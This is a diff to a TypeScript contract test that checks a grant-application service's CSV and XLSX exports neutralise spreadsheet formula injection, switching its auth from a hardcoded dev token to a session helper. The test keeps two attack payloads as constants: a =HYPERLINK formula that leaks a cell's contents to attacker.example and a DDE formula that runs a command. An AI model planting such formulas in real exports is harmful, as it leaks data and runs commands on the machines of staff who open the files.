@@ -4,6 +4,7 @@ import { csvCell } from '../../common/csv';
 import { businessIdCheckDigit } from '../../rules/identifiers';
 import { type ContractHarness, openContractHarness } from '../support/contractHarness';
 import { samplePdf } from '../support/samplePdf';
+import { staffHeaders } from '../support/staffSession';
 
 /**
  * Formula injection: a citizen's text beginning with "=" went into the
@@ -13,7 +14,7 @@ import { samplePdf } from '../support/samplePdf';
 
 const HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A2,"Avaa liite")';
 const DDE = "=cmd|' /C calc'!A0";
-const HANDLER = { Authorization: 'Bearer dev-handler-token' };
+const HANDLER = () => staffHeaders(harness.baseUrl, 'handler');
 
 let harness: ContractHarness;
 const started: string[] = [];
@@ -83,7 +84,10 @@ it("writes a citizen's =HYPERLINK(…) and =cmd|… as text in the handler's rou
   if (response.status === 201) started.push(response.body.applicationId);
   expect(response.status).toBe(201);
 
-  const csv = await harness.api().get(`/api/rounds/${roundId}/export/avustushakemus.csv`).set(HANDLER);
+  const csv = await harness
+    .api()
+    .get(`/api/rounds/${roundId}/export/avustushakemus.csv`)
+    .set(await HANDLER());
   expect(csv.status).toBe(200);
   const cells = csv.text.replace(/^\ufeff/, '').split('\r\n')[1];
   expect(cells).toContain(`"'=cmd|' /C calc'!A0"`);
@@ -97,7 +101,7 @@ it("writes a citizen's =HYPERLINK(…) and =cmd|… as text in the handler's rou
   const xlsx = await harness
     .api()
     .get(`/api/rounds/${roundId}/export/avustushakemus.xlsx`)
-    .set(HANDLER)
+    .set(await HANDLER())
     .buffer(true)
     .parse((res, done) => {
       const chunks: Buffer[] = [];
